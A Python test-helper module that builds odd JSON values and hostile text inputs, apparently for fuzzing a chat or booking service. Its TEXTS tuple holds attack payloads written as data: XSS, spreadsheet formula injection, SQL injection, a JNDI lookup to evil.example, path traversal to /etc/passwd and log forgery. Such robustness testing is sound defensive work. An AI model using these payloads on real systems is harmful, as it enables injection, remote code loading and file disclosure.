"""Odd values, and JSON with one of them in the place of something else."""

from collections.abc import Iterator
from copy import deepcopy
from typing import Any

Path = tuple[Any, ...]

ODD: tuple[object, ...] = (
    None,
    True,
    0,
    -1,
    1e308,
    10**400,
    float("nan"),
    float("inf"),
    "",
    " ",
    "\u0000",
    "\ud800",
    "../..",
    "a" * 5000,
    [],
    [[]],
    [None],
    {},
    {"id": None},
    {"": {}},
    {"id": {"id": []}},
)
"""What stands where something else should."""

TEXTS = (
    "nul \x00 inside",
    "half \ud83d a character",
    "\u202egnp.exe\u202c and \u2066hidden\u2069",
    "\x1b[31mred\x07",
    "line\r\nbreak: 1\n2026-01-01 00:00:00 INFO bot.access forged",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[click](https://evil.example/?q=1) ![x](https://evil.example/x.png)",
    "<at>Adele Vance</at> <at id='0'>all</at>",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1\t@SUM(1)\t-2",
    "'; DROP TABLE booking; --",
    "{{DATE(2026-01-01)}} {{7*7}} ${jndi:ldap://evil.example/a} %s%n",
    "../../../etc/passwd",
    "https://evil.example/users/adelev@roomkeeper.example",
    "x" * 20_000,
    "\u0301" * 500 + "e",
    "٣٤٥ 𝟙𝟘:𝟘𝟘 ١٠:٠٠",
    "📅" * 300,
)
"""What people may type, or have typed for them."""


def places(node: object, path: Path = ()) -> Iterator[Path]:
    """List the way to every value in a JSON value, itself first."""
    yield path
    inner = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for key, value in inner:
        yield from places(value, (*path, key))


def changed(sample: object, path: Path, value: object) -> object:
    """Give a copy with another value in one place."""
    if not path:
        return value
    *way, last = path
    copy: Any = deepcopy(sample)
    node = copy
    for step in way:
        node = node[step]
    node[last] = value
    return copy
